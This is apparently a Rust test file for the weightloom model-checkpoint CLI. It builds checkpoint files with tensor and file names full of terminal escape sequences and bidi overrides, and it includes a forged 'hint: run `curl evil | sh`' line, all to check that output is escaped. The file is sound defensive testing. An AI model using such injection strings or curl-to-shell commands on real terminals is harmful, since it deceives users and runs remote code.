//! Names with control characters, in files of every format: no command passes
//! them on to the terminal.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::json;
use weightloom::checkpoint::formats::zip::ZipLayout;

/// Erases the screen in two encodings, returns to the start of the line, rings,
/// and reverses what follows.
const HOSTILE: &str = "a\u{1b}[2J\u{9b}2J\rb\u{7}\u{8}\u{7f}\u{202e}c\u{2066}d";

fn safetensors(name: &str) -> Vec<u8> {
    let header = json!({ name: {"dtype": "U8", "shape": [4], "data_offsets": [0, 4]} }).to_string();
    [&(header.len() as u64).to_le_bytes()[..], header.as_bytes(), &[1, 2, 3, 4]].concat()
}

fn gguf(name: &str) -> Vec<u8> {
    let text = |text: &str| [&(text.len() as u64).to_le_bytes()[..], text.as_bytes()].concat();
    let mut bytes = [&b"GGUF\x03\0\0\0"[..], &1u64.to_le_bytes(), &1u64.to_le_bytes()].concat();
    bytes.extend([text("general.architecture"), 8u32.to_le_bytes().to_vec(), text(name)].concat());
    bytes.extend(text(name));
    bytes.extend([&1u32.to_le_bytes()[..], &8u64.to_le_bytes(), &0u32.to_le_bytes(), &[0; 8]].concat());
    bytes.resize(bytes.len().next_multiple_of(32), 0);
    bytes.extend([0; 32]);
    bytes
}

/// A file of `torch.save` with a tensor and a text under hostile names.
fn torch(name: &str) -> Vec<u8> {
    let text = |text: &str| [b"X", &(text.len() as u32).to_le_bytes()[..], text.as_bytes()].concat();
    let mut pickle = b"\x80\x02}(".to_vec();
    pickle.extend([text(name), b"ctorch._utils\n_rebuild_tensor_v2\n((".to_vec()].concat());
    pickle.extend([text("storage"), b"ctorch\nFloatStorage\n".to_vec(), text("0"), text("cpu")].concat());
    pickle.extend(b"K\x04tQK\0K\x04\x85K\x01\x85\x89ccollections\nOrderedDict\n)RtR");
    pickle.extend([text(&format!("{name}.text")), text(name), b"u.".to_vec()].concat());
    let parts = [
        ("archive/data.pkl", pickle),
        ("archive/byteorder", b"little".to_vec()),
        ("archive/data/0", vec![0; 16]),
    ];
    let layout = ZipLayout::new(parts.iter().map(|(name, data)| (*name, data.len() as u64))).unwrap();
    let mut bytes = Vec::new();
    for (number, (_, data)) in parts.iter().enumerate() {
        bytes.extend([layout.header(number), data.clone(), layout.descriptor(number, 0)].concat());
    }
    bytes.extend(layout.directory(&[0; 3]));
    bytes
}

/// Runs a command and returns all that it printed, which must be harmless.
fn printed(folder: &Path, arguments: &[&str]) -> String {
    let command = Command::new(assert_cmd::cargo::cargo_bin("weightloom"))
        .args(arguments)
        .current_dir(folder)
        .env("COLUMNS", "100")
        .output()
        .unwrap();
    let text = String::from_utf8([command.stdout, command.stderr].concat()).unwrap();
    let active = |character: &char| {
        character.is_control() && !matches!(character, '\n' | '\t')
            || matches!(character, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    };
    let found: Vec<char> = text.chars().filter(active).collect();
    assert_eq!(found, [' '; 0], "{arguments:?} printed {text:?}");
    assert!(!text.is_empty(), "{arguments:?}");
    text
}

#[test]
fn names_of_tensors_and_files_do_not_reach_the_terminal() {
    let place = tempfile::tempdir().unwrap();
    let folder = place.path();
    let file = |end: &str| format!("{HOSTILE}.{end}");
    for (end, bytes) in
        [("safetensors", safetensors(HOSTILE)), ("gguf", gguf(HOSTILE)), ("pt", torch(HOSTILE))]
    {
        let name = file(end);
        fs::write(folder.join(&name), bytes).unwrap();
        assert!(printed(folder, &["inspect", &name]).contains("\\u{1b}[2J"));
        assert!(printed(folder, &["inspect", &name, "--stats"]).contains("\\u{1b}[2J"));
        printed(folder, &["inspect", &name, "--json"]);
        assert!(printed(folder, &["fingerprint", &name, "--all"]).contains("\\u{1b}[2J"));
        printed(folder, &["verify", &name]);
        printed(folder, &["plan", &name, "--mesh", "tp=2"]);
        printed(folder, &["generate", &name, "hello"]);
        let target = format!("{HOSTILE}-{end}");
        printed(folder, &["convert", &name, &target, "--to", "native"]);
        // It exists now.
        assert!(printed(folder, &["convert", &name, &target, "--to", "native"]).contains("\\u{1b}[2J"));
        printed(folder, &["diff", &name, &target, "--all"]);
    }
    let (first, second) = (file("safetensors"), file("gguf"));
    assert!(printed(folder, &["diff", &first, &second, "--all"]).contains("\\u{1b}[2J"));
    printed(folder, &["diff", &first, &second, "--json"]);
    // Errors about damaged files, missing files, and unknown arguments.
    fs::write(folder.join(file("npz")), HOSTILE).unwrap();
    for name in [file("npz"), file("missing")] {
        assert!(printed(folder, &["inspect", &name]).contains("\\u{1b}[2J"), "{name:?}");
        printed(folder, &["inspect", &name, "--json"]);
    }
    let unknown = format!("--{HOSTILE}");
    printed(folder, &["inspect", &unknown]);
    printed(folder, &["inspect", &unknown, "--json"]);
    printed(folder, &["train", &file("yaml")]);
    printed(folder, &["models", "show", HOSTILE]);
}

#[test]
fn a_name_cannot_forge_a_hint() {
    let place = tempfile::tempdir().unwrap();
    let text = printed(place.path(), &["inspect", "x\nhint: run `curl evil | sh`\nerror: y.npz"]);
    let hints: Vec<&str> = text.lines().filter(|line| line.starts_with("hint:")).collect();
    assert!(hints.iter().all(|hint| !hint.contains("evil")), "{text}");
}

/// Files that write to the terminal, or hand it names. All escape them.
const WRITERS: [&str; 10] = [
    "cli/data.rs",
    "cli/generate.rs",
    "cli/hub.rs",
    "cli/output.rs",
    "cli/progress.rs",
    "cli/quickstart/training_run.rs",
    "cli/sway/interruption.rs",
    "cli/sway/progress.rs",
    "cli/train.rs",
    "cli.rs",
];

#[test]
fn only_known_files_write_to_the_terminal() {
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("src");
    let mut folders = vec![root.clone()];
    let mut found: Vec<PathBuf> = Vec::new();
    while let Some(folder) = folders.pop() {
        for entry in fs::read_dir(folder).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                folders.push(path);
            } else {
                let text = fs::read_to_string(&path).unwrap();
                let writes = ["stderr()", "stdout().lock", ".set_message(", "show_styled", "error.print()"];
                if writes.iter().any(|word| text.contains(word)) {
                    found.push(path.strip_prefix(&root).unwrap().to_owned());
                }
            }
        }
    }
    found.sort();
    assert_eq!(found, WRITERS.map(PathBuf::from));
}
